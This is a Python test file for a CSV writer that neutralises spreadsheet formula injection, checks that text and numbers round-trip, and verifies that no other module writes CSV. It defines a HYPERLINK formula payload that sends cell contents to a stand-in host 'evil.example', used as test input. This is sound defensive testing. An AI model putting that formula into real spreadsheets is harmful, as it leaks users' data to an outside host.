"""CSV for people: no cell runs in a spreadsheet, all text comes back as it was, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import itertools
import re
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

import whatif
from tests.awkward_texts import READ_AS_ANOTHER
from tests.people.pairs import Pictures, pair, pictures
from whatif.engine.files.csv_writing import (
    csv_for_people,
    delimited,
    frame_for_people,
    marked,
    records,
    rows_of_people,
    unmarked,
)
from whatif.people.error_categories import CATEGORIES, read_error_categories, write_error_sample
from whatif.people.picture_labels import read_picture_labels
from whatif.people.picture_tasks import picture_tasks, tasks_csv
from whatif.results.auditing.report import write_rows
from whatif.results.reporting.table import from_csv, tidy, to_csv

AWKWARD = sorted({"".join(signs) for n in range(4) for signs in itertools.product("'=-+@\t\r\n ＝5\"", repeat=n)})
FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")
LINK = '=HYPERLINK("http://evil.example?"&A1,"more")'


def test_no_text_is_a_formula_and_every_text_comes_back() -> None:
    assert not [text for text in AWKWARD if FORMULA.match(marked(text))]
    assert not [text for text in AWKWARD if unmarked(marked(text)) != text]
    assert [marked(text) for text in ("", "a=1", "'tis", "5")] == ["", "a=1", "'tis", "5"]


SHOWN_AS_ANOTHER = (*READ_AS_ANOTHER, "true", "10:30", "3 pm", "1,000", ".5", "1.", "7-1", "May 2", "5 march 2020")
SHOWN_AS_THEY_ARE = ("5", "0", "0.5", "12.25", "10%", "may", "2 dogs", "mayor 5", "1st", "...", "pair-1", "true story")


def test_a_text_that_a_spreadsheet_shows_as_another_is_marked() -> None:
    marks = {text: marked(text) for text in (*SHOWN_AS_ANOTHER, *SHOWN_AS_THEY_ARE)}
    assert {text for text, cell in marks.items() if cell != text} == set(SHOWN_AS_ANOTHER)
    for text in marks:
        for cell in (text, f"'{text}", f"''{text}"):
            assert unmarked(marked(cell)) == cell


def test_texts_are_the_same_after_a_file_in_any_cell() -> None:
    rows = [["=head", "b"], *([text, f"{text};"] for text in AWKWARD[::7])]
    text = csv_for_people(rows)
    assert [[*map(unmarked, row)] for row in records(text)] == rows
    assert rows_of_people(text) == [{"=head": first, "b": second} for first, second in rows[1:]]
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == len(rows), "a CR ended a line"
    assert records(delimited(rows)) == rows, "without marks"


def test_computed_and_reported_numbers_stay_numbers() -> None:
    assert csv_for_people([(-0.5, -3, "-0.5", None)]) == "-0.5,-3,'-0.5,\n"
    frame = pd.DataFrame(
        {"value": [-0.5, -1e-9, float("-inf")], "published": ["-21", "+5%", "-21 and -9"], "c": ["1-3", "007", "'5-5"]}
    )
    assert frame_for_people(frame) == "value,published,c\n-0.5,-21,1-3\n-1e-09,+5%,007\n-inf,'-21 and -9,''5-5\n"


def test_a_result_table_has_no_formula_and_comes_back() -> None:
    names = [LINK, "'=x", "\t=1", "a\r=1", "-5", "'-5", "@a", "x"]
    frame = tidy([{"model": name, "measure": "drop", "value": -1.5} for name in names], ("model", "measure"))
    text = to_csv(frame)
    pd.testing.assert_frame_equal(from_csv(text), frame)
    assert [row["model"] for row in rows_of_people(text)] == names
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))]
    assert [cell for cell in cells if FORMULA.match(cell)] == ["-5"]


def test_scores_for_people_are_marked_and_those_for_programs_are_not(tmp_path: Path) -> None:
    rows = [{"item_id": LINK, "guessable": -0.25}, {"item_id": "b", "guessable": 1.0}]
    write_rows(rows, tmp_path / "s.csv")
    assert records((tmp_path / "s.csv").read_text())[1] == [f"'{LINK}", "-0.2500"]
    write_rows(rows, tmp_path / "s.parquet")
    assert pq.read_table(tmp_path / "s.parquet").column("item_id").to_pylist() == [LINK, "b"]


@pytest.mark.parametrize("caption", [LINK, "'=x", "-5", "'-5", "+1", "@a", "＝1"])
def test_captions_and_ids_that_look_like_formulas_are_labelled(caption: str, tmp_path: Path) -> None:
    pairs = [pair(0, caption_0=caption)]
    images = Pictures(pictures([0]))
    tasks = picture_tasks(pairs, seed=1, labelled_three_times=0)
    rows = rows_of_people(tasks_csv(tasks, images).decode())
    for row, task in zip(rows, sorted(tasks, key=lambda one: (one.annotators, one.task_id)), strict=True):
        assert (row["option_1"], row["option_2"]) == task.options
        row["label"] = caption  # as annotators copy it from a cell
    (tmp_path / "tasks.csv").write_text(csv_for_people([list(rows[0]), *(row.values() for row in rows)]))
    found = read_picture_labels(tmp_path / "tasks.csv", pairs, seed=1)
    assert [row["decision"] for row in found.judgements] == ["caption_0", "caption_0"]


@pytest.mark.parametrize("pair_id", ["=x", "7"])  # 7-1 is a date
def test_errors_of_such_ids_are_sorted_into_categories(pair_id: str, tmp_path: Path) -> None:
    row = {**pair(0), "pair_id": pair_id}
    item = f"{pair_id}-1"
    write_error_sample([item], [row], {item: "both"}, Pictures(pictures([0])), tmp_path)
    text = (tmp_path / "errors.csv").read_text()
    assert f"'{item}," in text
    (tmp_path / "errors.csv").write_text(text.replace(f"'{item},", f"'{item},{CATEGORIES[0]}", 1))
    assert read_error_categories(tmp_path / "errors.csv", [item]).categories == {item: CATEGORIES[0]}


def test_nothing_else_writes_csv() -> None:
    """A module that writes CSV in its own way would not mark formulas."""
    root = Path(whatif.__file__).parent
    writes = re.compile(r"csv\.(?:writer|DictWriter|write_csv)\(|\.to_(?:csv|excel)\(|\bWorkbook\(")
    found = {
        (str(path.relative_to(root)), call)
        for path in root.rglob("*.py")
        for call in writes.findall(path.read_text(encoding="utf-8"))
    }
    assert found == {
        ("engine/files/csv_writing.py", "csv.writer("),
        ("engine/files/csv_writing.py", ".to_csv("),
        ("formats/benchmark_files.py", "Workbook("),  # the benchmark again, for its own tools; cells are text
    }
